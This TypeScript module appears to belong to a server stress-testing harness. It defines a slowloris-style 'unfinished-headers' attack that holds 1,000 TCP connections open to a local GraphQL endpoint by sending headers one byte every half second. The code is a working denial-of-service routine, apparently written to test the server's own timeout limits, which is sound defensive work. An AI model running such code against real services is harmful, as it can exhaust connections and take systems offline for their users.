import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { openTcp } from '../clients/tcp.ts';

const connections = 1_000;
const everyMs = 500;

/** Requests whose headers never end. */
export const unfinishedHeaders: Attack = {
  name: 'unfinished-headers',
  family: 'sockets',
  bounds: [11],
  summary: '1,000 requests whose headers grow by a byte every 0.5 s',
  run: async (context) => {
    const { signal } = context;
    const sockets: Awaited<ReturnType<typeof openTcp>>[] = [];
    for (let index = 0; index < connections && !signal.aborted; index++) {
      const socket = await openTcp(context);
      socket.write('POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ');
      sockets.push(socket);
    }
    while (!signal.aborted) {
      for (const socket of sockets) if (socket.writable) socket.write('x');
      await sleep(everyMs);
    }
  },
};
